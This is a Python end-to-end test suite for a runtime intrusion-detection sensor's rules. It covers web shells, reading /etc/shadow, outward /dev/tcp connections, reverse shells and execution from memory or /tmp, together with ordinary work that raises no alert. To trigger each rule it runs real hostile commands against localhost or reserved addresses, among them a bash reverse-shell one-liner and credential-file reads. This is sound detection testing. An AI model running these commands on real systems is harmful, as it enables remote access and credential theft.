"""Each built-in rule is really performed and gives the right alert, once; what only looks like it, and ordinary work, give none."""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import tempfile
import threading
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from tests.conftest import lacking

from tests.e2e.builtin import (  # isort: skip
    CREDENTIALS, MEMORY, OUTWARD, PROGRAMS, PYTHON, REVERSE, SHELL,
    Watch, compiled, free_port, listening, rules_of, run, served, shown, tool,
)  # fmt: skip
from tests.e2e.conftest import Sensor

pytestmark = pytest.mark.live

FOUR, SIX = "203.0.113.10", "2001:db8::10"  # for documentation (RFC 5737, RFC 3849): nobody's


@pytest.fixture(scope="module")
def watch(installed: Path, live_kernel: None) -> Iterator[Watch]:
    folder = Path(tempfile.mkdtemp(prefix="tiercel-", dir="/var/lib"))
    folder.chmod(0o755)
    under = Watch(Sensor(installed, folder, rules_of(installed)), folder)
    try:
        under.sensor.start()
        yield under
    finally:
        under.close()
        shutil.rmtree(folder)


@pytest.fixture
def scratch(watch: Watch) -> Path:
    path = Path(tempfile.mkdtemp(dir=watch.folder))
    path.chmod(0o755)
    return path


# ---------------------------------------------------------------- server starts a shell


@contextmanager
def web_server(shared: Path, lab: Path) -> Iterator[tuple[int, str]]:
    """nginx and PHP-FPM with a web shell; gives the port and PHP-FPM's name."""
    fpm = next((path for path in sorted(Path("/usr/sbin").glob("php-fpm*"))), None) or Path(lacking("php-fpm is not installed"))
    root = lab / "ws"
    shutil.copytree(shared / "lab" / "webshell", root)
    (root / "run").mkdir()
    port = free_port()
    for name in ("nginx.conf", "fpm.conf"):
        text = (root / name).read_text().replace("$LAB", str(lab))
        assert name == "fpm.conf" or "127.0.0.1:8081" in text
        (root / name).write_text(text.replace("127.0.0.1:8081", f"127.0.0.1:{port}"))
    with ExitStack() as stack:
        quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
        stack.enter_context(served([fpm, "--nodaemonize", "-y", root / "fpm.conf"], (root / "run" / "fpm.sock").exists, **quiet))
        stack.enter_context(served([tool("nginx"), "-c", root / "nginx.conf"], listening(port), **quiet))
        yield port, fpm.name


def test_web_shell(watch: Watch, scratch: Path, shared: Path) -> None:
    with web_server(shared, scratch) as (port, fpm):

        def ask(command: str, answer: str) -> None:
            with urllib.request.urlopen(f"http://127.0.0.1:{port}/s.php?c={command}", timeout=20) as page:
                assert answer in page.read().decode()

        for _ in range(2):
            (alert,) = watch.during(ask, "id", "www-data")
            fields = alert["output_fields"]
            assert alert["rule"] == SHELL
            assert alert["priority"] == "Critical"
            assert fields["proc.cmdline"] in ("sh -c id", "sh -c -- id")
            assert fields["proc.exepath"] == os.path.realpath("/bin/sh")
            assert fields["user.name"] == "www-data"
            assert (fields["proc.pname"], fields["proc.aname[2]"]) == (fpm[:15], fpm[:15])  # a worker, and what started it
            assert fields["proc.pcmdline"].startswith(f"{fpm} --nodaemonize")


def test_web_shell_of_a_server_that_ran_before(watch: Watch, scratch: Path, shared: Path, sensor: Callable[..., Sensor]) -> None:
    with web_server(shared, scratch) as (port, fpm):
        late = sensor()
        urllib.request.urlopen(f"http://127.0.0.1:{port}/s.php?c=echo+{port}-{os.getpid()}", timeout=20).close()
        (alert,) = late.expect(SHELL, proc__cmdline=f"sh -c echo {port}-{os.getpid()}")
    fields = alert["output_fields"]
    assert (fields["proc.pname"], fields["proc.aname[2]"], fields["proc.pcmdline"]) == (fpm, fpm, fpm)


def test_database_and_its_child_start_a_shell(watch: Watch, scratch: Path) -> None:
    server = compiled(watch.folder, "server")
    for name in ("postgres", "redis-server", "php-fpm8.9"):
        shutil.copy(server, scratch / name)
    shutil.copy(server, scratch / "helper")
    (scratch / "innocent").symlink_to("/bin/sh")
    script = scratch / "script"
    script.write_text("#!/bin/sh\nexit 0\n")
    script.chmod(0o755)
    fields = ("proc.pname", "proc.aname[2]", "proc.cmdline", "proc.exepath")
    shell = os.path.realpath("/bin/sh")
    postgres = scratch / "postgres"

    assert shown(watch.during(run, postgres, "/bin/sh", "-c", ":"), *fields[::2]) == [(SHELL, "postgres", "sh -c :")]
    assert shown(watch.during(run, scratch / "redis-server", scratch / "helper", "/bin/sh", "-c", "exit 0"), *fields) == [
        (SHELL, "helper", "redis-server", "sh -c exit 0", shell)
    ]
    assert shown(watch.during(run, scratch / "php-fpm8.9", scratch / "innocent", "-c", ":"), *fields[2:]) == [
        (SHELL, "innocent -c :", shell)
    ]
    assert shown(watch.during(run, postgres, script), *fields[2:]) == [(SHELL, f"script {script}", shell)]
    # No shell; a shell below something else; a command that is allowed, and one that only begins like it; a shell that does not exist.
    assert watch.during(run, postgres, "/bin/true") == []
    assert watch.during(run, scratch / "helper", "/bin/sh", "-c", ":") == []
    mail = "/usr/sbin/sendmail -t -i"
    assert watch.during(run, postgres, "/bin/sh", "-c", mail, code=None) == []
    assert shown(watch.during(run, postgres, "/bin/sh", "-c", f"{mail}; :")) == [(SHELL,)]
    assert watch.during(run, postgres, scratch / "bash", code=1) == []


# ---------------------------------------------------------------- credential files


@pytest.fixture(scope="module")
def cat(watch: Watch) -> Path:
    return Path(shutil.copy("/bin/cat", watch.folder))


@pytest.fixture
def sudoers() -> Iterator[Path]:
    """A file of sudoers.d that sudo itself ignores, as its name has a dot (sudoers(5))."""
    folder = Path("/etc/sudoers.d")
    new = not folder.exists()
    if new:
        folder.mkdir(0o750)
    path = folder / f"tiercel.{os.getpid()}"
    path.write_text("# nothing\n")
    yield path
    path.unlink()
    if new:
        folder.rmdir()


@pytest.mark.parametrize("path", ["/etc/shadow", "/etc/gshadow", "/etc/../etc//shadow", "/proc/self/root/etc/shadow"])
def test_credential_file(watch: Watch, cat: Path, path: str) -> None:
    (alert,) = watch.during(run, cat, path)
    real = os.path.realpath(path) if "proc" not in path else "/etc/shadow"
    assert shown([alert], "fd.name", "proc.cmdline", "proc.exepath", "user.name") == [(CREDENTIALS, real, f"cat {path}", str(cat), "root")]
    assert alert["priority"] == "Warning"
    assert alert["output_fields"]["proc.pname"]


def test_credential_file_of_sudo(watch: Watch, cat: Path, sudoers: Path) -> None:
    assert shown(watch.during(run, cat, sudoers), "fd.name") == [(CREDENTIALS, str(sudoers))]
    assert watch.during(run, "ls", "-l", sudoers.parent) == []


def test_credential_file_under_other_names(watch: Watch, cat: Path, scratch: Path) -> None:
    expected = [(CREDENTIALS, "/etc/shadow")]
    (scratch / "link").symlink_to("/etc/shadow")
    (scratch / "etc").symlink_to("/etc")
    (scratch / "file").touch()
    (scratch / "directory").mkdir()
    assert shown(watch.during(run, cat, scratch / "link"), "fd.name") == expected
    assert shown(watch.during(run, cat, scratch / "etc" / "shadow"), "fd.name") == expected
    assert shown(watch.during(run, cat, "shadow", cwd="/etc"), "fd.name") == expected
    mount = 'mount --bind "$1" "$2" && exec "$3" "$4"'
    for source, target, path in (("/etc/shadow", "file", "file"), ("/etc", "directory", "directory/shadow")):
        command = [tool("unshare"), "-m", "/bin/sh", "-c", mount, "sh", source, scratch / target, cat, scratch / path]
        assert shown(watch.during(run, *command), "fd.name") == expected


def test_credential_file_by_any_program_and_mode(watch: Watch, scratch: Path) -> None:
    shutil.copy("/bin/cat", scratch / "passwd")  # a trusted name is not a trusted path
    assert shown(watch.during(run, scratch / "passwd", "/etc/shadow"), "proc.cmdline") == [(CREDENTIALS, "passwd /etc/shadow")]

    def opens(code: str, **more: Any) -> list[tuple[Any, ...]]:
        return shown(watch.during(run, PYTHON, "-I", "-S", "-c", f"import os\n{code}", **more), "fd.name")

    once = [(CREDENTIALS, "/etc/shadow")]
    assert opens("os.open('/etc/shadow', os.O_RDWR)") == once
    assert opens("os.open('/etc/shadow', os.O_WRONLY)") == []
    # A descriptor that only names the file reads nothing, until it is opened for reading.
    assert opens("os.open('/etc/shadow', os.O_PATH)") == []
    assert opens("fd = os.open('/etc/shadow', os.O_PATH)\nos.open(f'/proc/self/fd/{fd}', os.O_RDONLY)") == once
    assert opens("os.setuid(65534)\ntry: os.open('/etc/shadow', os.O_RDONLY)\nexcept PermissionError: pass") == []


def test_trusted_programs_read_credential_files(watch: Watch) -> None:
    def all_of_them() -> None:
        run(tool("passwd"), "-S", "root")
        run(tool("chage"), "-l", "root")
        run(tool("su"), "root", "-c", "true")
        run(tool("runuser"), "-u", "nobody", "--", "true")
        run(tool("pwck"), "-r", code=None)

    assert watch.during(all_of_them) == []


# ---------------------------------------------------------------- outward connections


class Abroad(NamedTuple):
    """A network namespace with addresses of nobody, something that listens there, and ports: accepting, with a full queue, closed."""

    name: str
    port: int
    full: int
    closed: int

    def run(self, *command: object, **more: Any) -> None:
        run("ip", "netns", "exec", self.name, *command, **{"code": None, **more})


@pytest.fixture(scope="module")
def abroad(watch: Watch) -> Iterator[Abroad]:
    name = f"tiercel-{os.getpid()}"
    ip = tool("ip")
    if run(ip, "netns", "add", name, code=None).returncode:
        lacking("network namespaces cannot be made")
    try:
        run(ip, "-n", name, "link", "set", "lo", "up")
        for address in (f"{FOUR}/32", f"{SIX}/128"):
            run(ip, "-n", name, "addr", "add", address, "dev", "lo")
        command = [ip, "netns", "exec", name, PYTHON, str(PROGRAMS / "listen.py"), FOUR, SIX]
        with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as listener:
            assert listener.stdout is not None
            port, full = map(int, listener.stdout.readline().split())
            closed = next(p for p in (9, 11, 13) if p not in (port, full))
            yield Abroad(name, port, full, closed)
            listener.communicate("")
    finally:
        run(ip, "netns", "delete", name)


CONNECT = PROGRAMS / "connect.py"
CONNECTION = ("fd.sip", "fd.sport", "fd.l4proto", "proc.exepath")


def test_shell_connects_outward(watch: Watch, abroad: Abroad) -> None:
    (alert,) = watch.during(abroad.run, tool("bash"), "-c", f"exec 3<>/dev/tcp/{FOUR}/{abroad.port}", code=0)
    assert shown([alert], *CONNECTION, "evt.res") == [(OUTWARD, FOUR, abroad.port, "tcp", "/usr/bin/bash", "SUCCESS")]
    fields = alert["output_fields"]
    assert fields["fd.name"].startswith(f"{FOUR}:")
    assert fields["fd.name"].endswith(f"->{FOUR}:{abroad.port}")
    assert fields["proc.cmdline"] == f"bash -c exec 3<>/dev/tcp/{FOUR}/{abroad.port}"
    assert (fields["user.name"], alert["priority"]) == ("root", "Notice")


def test_interpreter_connects_outward(watch: Watch, abroad: Abroad, scratch: Path) -> None:
    python = os.path.realpath(PYTHON)
    renamed = scratch / "updater"
    renamed.symlink_to(python)
    script = Path(shutil.copy(CONNECT, scratch / "backup"))
    script.chmod(0o755)

    def alerts(*command: object) -> list[tuple[Any, ...]]:
        return shown(watch.during(abroad.run, *command), *CONNECTION, "evt.res")

    four = (OUTWARD, FOUR, abroad.port, "tcp", python, "SUCCESS")
    assert alerts(PYTHON, CONNECT, "now", FOUR, abroad.port) == [four]
    assert alerts(PYTHON, CONNECT, "now", f"::ffff:{FOUR}", abroad.port) == [four]
    assert alerts(PYTHON, CONNECT, "now", SIX, abroad.port) == [(OUTWARD, SIX, *four[2:])]
    assert alerts(PYTHON, CONNECT, "udp", FOUR, 4444) == [(OUTWARD, FOUR, 4444, "udp", python, "SUCCESS")]
    # Executed under another name: by a link, and as a script.
    assert alerts(renamed, CONNECT, "now", FOUR, abroad.port) == [four]
    assert alerts(script, "now", FOUR, abroad.port) == [four]
    # Refused, not answered yet, and interrupted by a signal.
    assert alerts(PYTHON, CONNECT, "now", FOUR, abroad.closed) == [(OUTWARD, FOUR, abroad.closed, "tcp", python, "ECONNREFUSED")]
    assert alerts(PYTHON, CONNECT, "later", FOUR, abroad.full) == [(OUTWARD, FOUR, abroad.full, "tcp", python, "EINPROGRESS")]
    (interrupted,) = alerts(PYTHON, CONNECT, "interrupted", FOUR, abroad.full)
    assert interrupted[:5] == (OUTWARD, FOUR, abroad.full, "tcp", python)
    # Neither of these is an interpreter's: a name server is asked, no route to an address, a route only looked up.
    assert alerts(PYTHON, CONNECT, "udp", FOUR, 53) == []
    assert alerts(PYTHON, CONNECT, "now", FOUR, 53) == [(OUTWARD, FOUR, 53, "tcp", python, "ECONNREFUSED")]
    assert alerts(PYTHON, CONNECT, "now", "198.51.100.1", 80) == []
    assert alerts(PYTHON, CONNECT, "udp", FOUR, 0) == []


@pytest.mark.parametrize("address", ["127.0.0.1", "127.8.9.10", "::1", "::ffff:127.0.0.1", "0.0.0.0"])
def test_connections_to_the_host_itself_are_allowed(watch: Watch, address: str) -> None:
    port = free_port()
    with socket.create_server(("::", 0), family=socket.AF_INET6, dualstack_ipv6=True) as listener:
        for each in (port, listener.getsockname()[1]):
            assert watch.during(run, PYTHON, CONNECT, "now", address, each) == []
            assert watch.during(run, "bash", "-c", f"exec 3<>/dev/tcp/{address}/{each}", code=None) == []


def test_lists_can_be_edited(installed: Path, watch: Watch, abroad: Abroad, sensor: Callable[..., Sensor], folder: Path) -> None:
    edited = folder / "edited.yaml"
    edited.write_text(
        f"- list: allowed_ports\n  items: [{abroad.port}, {abroad.closed}]\n"
        f"- list: credential_programs\n  items: [{watch.folder}/trusted]\n"
        f"- list: allowed_writable_paths\n  items: [/tmp/allowed-]\n"
    )
    second = sensor(None, config=f"rules_files:\n- bundle:tiercel\n- {edited}\n")
    trusted = Path(shutil.copy("/bin/cat", watch.folder / "trusted"))
    allowed = Path(tempfile.mkdtemp(prefix="allowed-", dir="/tmp"))
    shutil.copy("/bin/true", allowed)

    def deeds() -> None:
        for port in (abroad.port, abroad.closed, 4444):
            abroad.run(PYTHON, CONNECT, "now", FOUR, port)
        run(trusted, "/etc/shadow")
        run(allowed / "true")

    try:
        assert len(watch.during(deeds)) == 5
    finally:
        shutil.rmtree(allowed)
    second.expect(OUTWARD, fd__sport=4444)
    second.settle()
    ours = [a for a in second.alerts if "connect.py" in a["output"] or str(watch.folder) in a["output"] or str(allowed) in a["output"]]
    assert {(a["rule"], a["output_fields"].get("fd.sport")) for a in ours} == {(OUTWARD, 4444)}


# ---------------------------------------------------------------- reverse shell


@contextmanager
def operator(address: str = "127.0.0.1") -> Iterator[tuple[int, list[str]]]:
    """The other end of reverse shells: sends a command to whoever connects; gives its port and what it was answered."""
    answers: list[str] = []

    def talk() -> None:
        while True:
            try:
                peer, _ = listener.accept()
            except OSError:
                return
            with peer:
                peer.settimeout(20)
                peer.sendall(b"echo $((6 * 7))\nexit\n")
                text = b""
                try:
                    while part := peer.recv(4096):
                        text += part
                except OSError:
                    pass
            answers.append(text.decode(errors="replace"))

    with socket.create_server((address, 0), family=socket.AF_INET6 if ":" in address else socket.AF_INET) as listener:
        thread = threading.Thread(target=talk)
        thread.start()
        try:
            yield listener.getsockname()[1], answers
        finally:
            listener.shutdown(socket.SHUT_RDWR)
            thread.join(30)


STREAMS = PROGRAMS / "streams.py"


def test_reverse_shell_of_bash(watch: Watch, scratch: Path) -> None:
    home = os.environ | {"HOME": str(scratch)}  # without a .bashrc, whose programs redirect the streams that they inherit
    with operator() as (port, answers):
        alerts = watch.during(run, "bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1", code=None, env=home)
    assert "42" in "".join(answers)
    assert sorted(shown(alerts, "fd.num", "fd.rip", "fd.rport", "proc.exepath", "user.name")) == [
        (REVERSE, stream, "127.0.0.1", port, "/usr/bin/bash", "root") for stream in (0, 1, 2)
    ]
    own, _, peer = alerts[0]["output_fields"]["fd.name"].partition("->")
    assert (own.rpartition(":")[0], peer) == ("127.0.0.1", f"127.0.0.1:{port}")
    assert {alert["priority"] for alert in alerts} == {"Critical"}


@pytest.mark.parametrize("address", ["127.0.0.1", "::1"])
def test_reverse_shell_of_python(watch: Watch, address: str) -> None:
    with operator(address) as (port, answers):
        alerts = watch.during(run, PYTHON, STREAMS, "shell", address, port, code=None)
    assert "42" in "".join(answers)
    assert shown(alerts, "fd.num", "fd.rip", "fd.rport", "proc.exepath") == [
        (REVERSE, stream, address, port, os.path.realpath(PYTHON)) for stream in (0, 1, 2)
    ]
    assert all(alert["output_fields"]["fd.name"].endswith(f"->{address}:{port}") for alert in alerts)


@pytest.mark.parametrize("how", ["dup", "dup2", "dup3", "fcntl", "udp", "early", "zero"])
def test_ways_to_a_standard_stream(watch: Watch, how: str) -> None:
    with operator() as (port, _):
        alerts = watch.during(run, PYTHON, STREAMS, how, "127.0.0.1", port)
    assert shown(alerts, "fd.num") == [(REVERSE, 0)]
    assert how == "early" or alerts[0]["output_fields"]["fd.name"].endswith(f"->127.0.0.1:{port}")


@pytest.mark.parametrize("how", ["elsewhere", "unix", "listening"])
def test_what_is_no_reverse_shell(watch: Watch, how: str) -> None:
    with operator() as (port, _):
        assert watch.during(run, PYTHON, STREAMS, how, "127.0.0.1", port) == []


# ---------------------------------------------------------------- execution from memory and writable directories


@pytest.mark.parametrize("how", ["execveat", "proc"])
def test_execution_from_memory(watch: Watch, how: str) -> None:
    (alert,) = watch.during(run, compiled(watch.folder, "memory"), how, "/bin/true", "argument")
    fields = alert["output_fields"]
    assert shown([alert], "proc.is_exe_from_memfd", "user.name") == [(MEMORY, True, "root")]
    assert fields["proc.exepath"].startswith("memfd:tiercel")
    assert fields["proc.cmdline"].endswith(" argument")
    assert alert["priority"] == "Critical"


@pytest.mark.parametrize("place", ["/tmp", "/var/tmp", "/dev/shm"])
def test_execution_from_a_writable_directory(watch: Watch, place: str) -> None:
    folder = Path(tempfile.mkdtemp(prefix="tiercel-", dir=place))
    try:
        program = Path(shutil.copy("/bin/true", folder / "program"))
        fields = ("proc.exepath", "proc.cmdline", "proc.is_exe_from_memfd")
        expected = [(MEMORY, str(program), "program argument", False)]
        assert shown(watch.during(run, program, "argument"), *fields) == expected
        assert shown(watch.during(run, "./program", "argument", cwd=folder), *fields) == expected
        link = watch.folder / f"link{place.replace('/', '-')}"
        link.symlink_to(program)
        assert shown(watch.during(run, link), "proc.exepath") == [(MEMORY, str(program))]
        # By the dynamic loader, which needs no permission to execute; and what cannot be executed.
        program.chmod(0o644)
        (loader,) = Path("/lib64").glob("ld-linux-*")
        assert shown(watch.during(run, loader, program), "proc.cmdline") == [(MEMORY, f"{loader.name[:15]} {program}")]
        assert watch.during(run, "/bin/sh", "-c", str(program), code=126) == []
    finally:
        shutil.rmtree(folder)


def test_execution_from_elsewhere(watch: Watch, scratch: Path) -> None:
    assert watch.during(run, shutil.copy("/bin/true", scratch)) == []
    assert watch.during(run, "/bin/true", "/tmp/argument", cwd="/tmp") == []


# ---------------------------------------------------------------- ordinary work


def compile_something(scratch: Path) -> None:
    (scratch / "main.c").write_text('#include <stdio.h>\nint f(void);\nint main(void) { printf("%d\\n", f()); return 0; }\n')
    (scratch / "f.c").write_text("int f(void) { return 42; }\n")
    (scratch / "Makefile").write_text("CC = gcc\nmain: main.o f.o\n\t$(CC) -o $@ $^\ncheck: main\n\t@test $$(./main) = 42 && echo good\n")
    assert "good" in run(tool("make"), "-s", "-j2", "check", cwd=scratch).stdout


def import_python(scratch: Path) -> None:
    run(PYTHON, "-c", "import asyncio, ctypes, email, http.client, json, multiprocessing, sqlite3, ssl, subprocess, unittest, xml.dom")
    run(PYTHON, "-c", "import subprocess as s; s.run('echo good | cat', shell=True, check=True)", cwd=scratch)


def use_git(scratch: Path) -> None:
    git = [tool("git"), "-c", "user.name=x", "-c", "user.email=x@localhost"]
    run(*git, "init", "-q", "one", cwd=scratch)
    (scratch / "one" / "file").write_text("text\n")
    run(*git, "add", ".", cwd=scratch / "one")
    run(*git, "commit", "-q", "-m", "first", cwd=scratch / "one")
    run(*git, "clone", "-q", "--no-local", "one", "two", cwd=scratch)
    assert (scratch / "two" / "file").read_text() == "text\n"


def pack(scratch: Path) -> None:
    (scratch / "data").mkdir()
    for number in range(20):
        (scratch / "data" / str(number)).write_text("x" * 1000)
    run(tool("tar"), "-czf", "data.tar.gz", "data", cwd=scratch)
    run(tool("tar"), "-xzf", "data.tar.gz", "-C", scratch / "data", cwd=scratch)


def log_in(scratch: Path) -> None:
    for name in ("host", "client"):
        run(tool("ssh-keygen"), "-q", "-t", "ed25519", "-N", "", "-f", scratch / name)
    (scratch / "client.pub").rename(scratch / "authorized")
    port = free_port()
    (scratch / "config").write_text(
        f"Port {port}\nListenAddress 127.0.0.1\nHostKey {scratch}/host\nAuthorizedKeysFile {scratch}/authorized\n"
        f"PidFile none\nUsePAM yes\nPermitRootLogin yes\nSubsystem sftp internal-sftp\n"
    )
    Path("/run/sshd").mkdir(mode=0o755, exist_ok=True)  # Debian's package makes it when it starts the service
    options = [
        "-F", "none", "-i", scratch / "client", "-o", "StrictHostKeyChecking=no", "-o", f"UserKnownHostsFile={scratch}/known",
        "-o", "LogLevel=ERROR", "-o", "BatchMode=yes",
    ]  # fmt: skip
    with served([tool("sshd"), "-D", "-f", scratch / "config", "-E", scratch / "log"], listening(port)):
        assert run(tool("ssh"), *options, "-p", port, "root@127.0.0.1", "echo good | cat").stdout == "good\n"
        assert "good" in run(tool("ssh"), *options, "-tt", "-p", port, "root@127.0.0.1", "/bin/sh -c 'echo good'").stdout
        run(tool("scp"), *options, "-P", port, "root@127.0.0.1:/etc/hostname", scratch / "copied")
    assert (scratch / "copied").exists()


def ask_the_package_manager(scratch: Path) -> None:
    run(tool("apt-cache"), "policy", "bash")
    run(tool("dpkg"), "-l")
    run(tool("dpkg"), "--verify", "passwd", code=None)


def run_a_daily_script(scratch: Path) -> None:
    script = scratch / "daily"
    script.write_text(
        "#!/bin/sh\nset -e\nwork=$(mktemp -d)\ntrap 'rm -r \"$work\"' EXIT\n"
        "find /var/log -maxdepth 1 -name '*.log' -size +1k | sort | head -n 5 > \"$work/list\"\n"
        "awk -F: '$3 >= 1000 { print $1 }' /etc/passwd | sed 's/^/user /' > \"$work/users\"\n"
        'while read -r line; do echo "$line"; done < "$work/users" > /dev/null\n'
        'getent passwd root | cut -d: -f7; id; date; df / > "$work/df"; gzip "$work/df"; perl -e \'print 1\'\n'
    )
    script.chmod(0o755)
    run(script, env={"PATH": "/usr/sbin:/usr/bin:/sbin:/bin"})
    run(tool("run-parts"), "--test", "/etc/cron.daily")


@pytest.mark.parametrize(
    "work", [compile_something, import_python, use_git, pack, log_in, ask_the_package_manager, run_a_daily_script], ids=lambda f: f.__name__
)
def test_ordinary_work_gives_no_alert(watch: Watch, scratch: Path, work: Callable[[Path], None]) -> None:
    assert watch.during(work, scratch) == []


def test_plain_web_requests_give_no_alert(watch: Watch, scratch: Path, shared: Path) -> None:
    def serve() -> None:
        with web_server(shared, scratch) as (port, _):
            (scratch / "ws" / "www" / "p.php").write_text("<?php echo 6 * 7; ?>")
            for name in ("p.php", "nginx.conf"):
                try:
                    urllib.request.urlopen(f"http://127.0.0.1:{port}/{name}", timeout=20).close()
                except urllib.error.HTTPError as error:
                    error.close()

    assert watch.during(serve) == []
